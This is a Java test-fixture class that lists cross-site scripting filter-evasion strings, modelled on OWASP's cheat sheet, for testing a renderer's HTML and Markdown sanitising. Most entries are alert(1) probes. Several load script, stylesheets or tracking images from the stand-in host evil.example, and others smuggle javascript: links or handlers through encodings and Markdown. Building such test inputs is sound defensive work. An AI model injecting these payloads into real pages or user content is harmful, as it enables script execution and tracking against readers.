package app.postwright.render;

import java.util.List;

/**
 * Hostile inputs, one per class of OWASP's XSS filter evasion cheat sheet, written for these tests. Reusable by
 * other packages' tests (importer, Markdown writer).
 */
public final class AttackStrings {
    private AttackStrings() {
    }

    public static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<script/xss src=https://evil.example/x.js></script>",
            "<<script>alert(1);//<</script>",
            "<script>alert(1)",
            "</script><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "'><script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=javascript:alert('XSS')>",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"XSS\")`>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
            "<IMG SRC=\"jav\tascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext></mtext><script>alert(1)</script></math>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"  javascript:alert(1)\">x</a>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<div style=\"width: expression(alert(1))\">x</div>",
            "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
            "<LINK REL=\"stylesheet\" HREF=\"https://evil.example/xss.css\">",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
            "<BASE HREF=\"https://evil.example/\">",
            "<FORM><BUTTON formaction=javascript:alert(1)>x</BUTTON></FORM>",
            "<input onfocus=alert(1) autofocus>",
            "<details open ontoggle=alert(1)>",
            "<!--<script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "[click](javascript:alert(1))",
            "[click](JAVASCRIPT:alert(1))",
            "[click](java\tscript:alert(1))",
            "[click](  javascript:alert(1))",
            "[click](javascript&#58;alert(1))",
            "[click](&#x6A;avascript:alert(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[click](vbscript:msgbox(1))",
            "[click](<javascript:alert(1)>)",
            "[click][ref]\n\n[ref]: javascript:alert(1)",
            "![x](javascript:alert(1))",
            "![x](https://evil.example/track.png)",
            "<javascript:alert(1)>",
            "[x](https://ok.example \"\\\" onmouseover=\\\"alert(1)\")",
            "` <script>alert(1)</script> `",
            "**<script>alert(1)</script>**",
            "\u0000<script>alert(1)</script>",
            "\u202Egnp.exe <script>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\\<script\\>alert(1)\\</script\\>");
}
